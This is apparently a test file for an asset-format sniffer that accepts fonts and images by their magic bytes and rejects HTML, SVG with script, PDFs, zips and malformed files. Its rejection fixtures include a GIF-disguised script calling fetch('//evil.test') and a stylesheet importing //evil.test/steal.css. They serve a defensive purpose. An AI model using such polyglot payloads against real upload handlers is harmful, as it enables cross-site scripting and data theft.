import { assetFormat } from './asset-format.js';

const bytes = (text: string, length = text.length): Buffer =>
  Buffer.concat([Buffer.from(text, 'latin1'), Buffer.alloc(Math.max(0, length - text.length))]);
const woff = (tag: string, claimed: number, length: number): Buffer => {
  const font = bytes(`${tag}\0\x01\0\0`, length);
  font.writeUInt32BE(claimed, 8);
  return font;
};

describe('what an asset is, by its bytes', () => {
  it.each<[string, Buffer]>([
    ['nothing', Buffer.alloc(0)],
    ['too little to tell', bytes('wOF2')],
    ['HTML', bytes('<!doctype html><script>alert(1)</script>')],
    ['SVG', bytes('<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>')],
    ['SVG behind an XML declaration', bytes('<?xml version="1.0"?><svg onload="x()"></svg>')],
    ['a script', bytes('GIF8=1;fetch("//evil.test");//          ')],
    ['a style sheet', bytes('@import url(//evil.test/steal.css);      ')],
    ['PDF', bytes('%PDF-1.7 and so on, with actions in it')],
    ['a zip', bytes('PK\x03\x04 something that somebody may unpack')],
    ['WebAssembly', bytes('\0asm\x01\0\0\0', 64)],
    ['a font with a page behind it', woff('wOF2', 40, 400)],
    ['a font that was cut off', woff('wOFF', 400, 40)],
    ['a plain font that claims more tables than it has room for', bytes('\0\x01\0\0\x00\xff', 64)],
    ['a WebP of another length', bytes('RIFF\x05\0\0\0WEBPVP8 ', 64)],
    ['a PNG without a header', bytes('\x89PNG\r\n\x1a\n', 64)],
    ['a moving picture of a kind that nobody named', bytes('\0\0\0\x1cftypavix', 64)],
    ['a video', bytes('\0\0\0\x18ftypisom', 64)],
    ['an icon, whose format has no closed shape', bytes('\0\0\x01\0\x01\0', 64)],
  ])('%s is not kept', (_what, content) => expect(assetFormat(content)).toBeNull());

  it.each<[string, Buffer]>([
    ['font/woff2', woff('wOF2', 40, 40)],
    ['font/woff', woff('wOFF', 40, 40)],
    ['font/ttf', bytes('\0\x01\0\0\0\x01', 64)],
    ['font/ttf', bytes('true\0\x01', 64)],
    ['font/otf', bytes('OTTO\0\x01', 64)],
    ['image/png', bytes('\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR', 64)],
    ['image/jpeg', bytes('\xff\xd8\xff\xe0', 64)],
    ['image/gif', bytes('GIF89a', 64)],
    ['image/gif', bytes('GIF87a', 64)],
    ['image/webp', bytes('RIFF\x38\0\0\0WEBPVP8 ', 64)],
    ['image/avif', bytes('\0\0\0\x1cftypavif', 64)],
    ['image/avif', bytes('\0\0\0\x1cftypavis', 64)],
  ])('%s is known', (mime, content) => {
    expect(assetFormat(content)).toMatchObject({ mime, kind: mime.split('/')[0] });
  });
});
